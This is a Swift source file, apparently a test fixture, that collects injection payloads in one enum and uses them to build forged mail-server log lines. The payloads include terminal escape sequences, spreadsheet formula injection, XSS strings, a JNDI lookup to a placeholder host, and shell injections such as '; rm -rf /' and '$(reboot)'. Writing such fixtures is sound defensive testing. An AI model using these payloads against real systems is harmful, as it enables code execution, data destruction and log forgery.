/// Text that a stranger may put wherever he can choose words, to do harm where they are shown: the one list of it.
public enum Payloads {
  /// For terminals, browsers, spreadsheets, JSON and Markdown readers.
  public static let ofOutput: [String] = [
    "\u{1B}[2J\u{1B}]0;owned\u{7}", "a\nb\rc", "\u{9B}31m", "\0", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
    "＝1+1", "\t=1+1", "x;=1+1", "\u{202E}gpj.exe", "\u{2066}x\u{2069}", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "'\"><svg onload=alert(1)>", "&lt;b&gt;", "](javascript:alert(1))",
    "![x](https://203.0.113.9/x.png)", "```\n# owned", "| a | b |", "@everyone", "\u{2028}", "\u{7F}", "\"quoted\", \\",
    "\u{FEFF}x", "\"},{\"event.code\":\"uw-imap.login\"", "\\u0000", "${jndi:ldap://203.0.113.9/x}", "%n%n%s",
    "; rm -rf /", "$(reboot)", "`reboot`", "--help",
  ]

  /// For whoever reads logs: what a daemon writes, imitated in a name.
  public static let ofLogs: [String] = [
    "x host=[192.0.2.1]", "x] host=[192.0.2.1] nmsgs=1/1", "x from [192.0.2.1]", "x, rip=192.0.2.1, lip=192.0.2.2",
    "x#012Nov 24 10:00:00 mail postfix/smtpd[9]: connect from unknown[192.0.2.1]",
    "x#012<22>Nov 24 10:00:00 mail sshd[9]: Failed password for root from 192.0.2.1 port 22 ssh2",
    "Nov 24 10:00:00 mail ipop3d[9]: Login user=root host=[192.0.2.1] nmsgs=1/1", "4F1A2B3C4D: removed",
    "NOQUEUE: reject",
    "x>, relay=mx[192.0.2.1]:25, dsn=2.0.0, status=sent (250 ok)", "x> to=<y> helo=<z>", "=?utf-8?q?x?=",
    String(repeating: "a", count: 79) + " host=[192.0.2.1]", String(repeating: "é", count: 40),
    "x (given password: y) host=[192.0.2.1]",
  ]

  /// All that can stand in one line of a log.
  public static let ofLines = (ofOutput + ofLogs).filter { !$0.contains("\n") && !$0.contains("\0") }

  /// What a daemon wrote about a client at 203.0.113.66 that could choose a word.
  public static func lines(_ payload: String, host: String = "mail") -> [String] {
    let client = "unknown[203.0.113.66]"
    let texts = [
      "ipop3d[101]: Login failed user=\(payload) auth=\(payload) host=[203.0.113.66]",
      "ipop3d[102]: Login user=\(payload) host=[203.0.113.66] nmsgs=1/1",
      "dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<\(payload)>, method=PLAIN, rip=203.0.113.66, lip=203.0.113.1, session=<583W4vtglYfGM2QO>",
      "postfix/smtpd[103]: NOQUEUE: reject: RCPT from \(client): 554 5.7.1 <\(payload)>: Relay access denied; from=<\(payload)> to=<\(payload)> proto=ESMTP helo=<\(payload)>",
      "postfix/smtpd[103]: warning: \(client): SASL LOGIN authentication failed: authentication failure, sasl_username=\(payload)",
      "postfix/smtpd[104]: AB12CD34EF: client=\(client), sasl_method=PLAIN, sasl_username=\(payload)",
      "postfix/cleanup[105]: AB12CD34EF: message-id=<\(payload)>",
      "postfix/cleanup[105]: AB12CD34EF: warning: header Subject: \(payload) from \(client); from=<a@example.com> to=<b@example.com> proto=ESMTP helo=<x>",
      "postfix/qmgr[106]: AB12CD34EF: from=<\(payload)>, size=100, nrcpt=1 (queue active)",
      "postfix/smtp[107]: AB12CD34EF: to=<\(payload)>, relay=mx.example.org[203.0.113.66]:25, delay=1, delays=0/0/0/1, dsn=5.1.1, status=bounced (host mx.example.org[203.0.113.66] said: 550 5.1.1 \(payload) (in reply to RCPT TO command))",
      "postfix/qmgr[106]: AB12CD34EF: removed", "food[108]: \(payload)",
    ]
    return texts.map { "Nov 24 10:00:00 \(host) \($0)" }
  }
}
